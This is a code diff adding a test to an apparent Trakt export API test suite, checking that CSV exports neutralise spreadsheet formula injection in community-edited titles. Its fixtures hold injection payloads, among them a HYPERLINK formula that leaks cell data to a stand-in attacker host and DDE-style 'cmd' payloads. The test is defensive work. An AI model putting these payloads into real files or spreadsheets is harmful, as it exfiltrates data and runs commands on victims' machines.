@@ -803,6 +803,45 @@ describe('GET /trakt/export/', () => {
     expectError(await call('GET', '/trakt/export/?format=xml', { token: user.access }), 400, /json, csv/);
   });
 
+  it('neutralises titles that a spreadsheet would run as a formula (=, +, -, @, tab, CR), as OWASP advises', async () => {
+    const user = await connectedUser(sim, { ...SMALL, movies: 4, shows: 2, seed: 'export-formula' });
+    const catalog = await sim.catalog(user.traktUsername);
+    // Community-edited titles from Trakt, as the simulator serves them.
+    const formulas = {
+      movie0: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the trailer")',
+      movie1: '+cmd|\' /C calc\'!A0',
+      movie2: '-2+3',
+      movie3: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      show0: '\tTabbed =1+1',
+      show1: '\rCarriage =1+1',
+    };
+    const titles = [...Object.values(formulas)];
+    for (const [i, movie] of catalog.movies.slice(0, 4).entries())
+      await sim.renameTitle({ type: 'movie', trakt_id: movie.trakt, title: titles[i]! });
+    for (const [i, show] of catalog.shows.slice(0, 2).entries())
+      await sim.renameTitle({ type: 'show', trakt_id: show.trakt, title: titles[4 + i]! });
+    await sync(user.access);
+
+    const csv = await call('GET', '/trakt/export/?format=csv', { token: user.access });
+    expect(csv.status).toBe(200);
+    const body = csv.body as string;
+    const rows = parseCsv(body).slice(1);
+    const exported = new Set(rows.map((r) => r[COLUMNS.indexOf('title')]!));
+    for (const title of titles) {
+      // The cell holds the title behind a leading apostrophe: text to a spreadsheet, never a formula.
+      expect(exported.has(`'${title}`), title).toBe(true);
+      expect(exported.has(title), title).toBe(false);
+      // And it is quoted, so the apostrophe and a leading tab or CR survive every CSV reader.
+      expect(body.includes(`,"'${title.replace(/"/g, '""')}",`), title).toBe(true);
+    }
+    // No exported cell of any column starts like a formula.
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Numbers and plain titles are unchanged; JSON keeps the title exactly (it is not a spreadsheet format).
+    expect(rows.every((r) => /^\d{4}-\d\d-\d\dT/.test(r[COLUMNS.indexOf('watched_at')]!))).toBe(true);
+    const json = await call('GET', '/trakt/export/?format=json', { token: user.access });
+    expect(json.body.find((r: any) => r.trakt === catalog.movies[0]!.trakt).title).toBe(formulas.movie0);
+  });
+
   it('streams in keyset chunks: every D1 read is at most one chunk', async () => {
     const user = await syncedUser({ ...SMALL, movies: 2600, shows: 0, rewatch_fraction: 0 }, { tmdb: false });
     const { result, meter } = await meterD1(() => call('GET', '/trakt/export/?format=json', { token: user.access }));
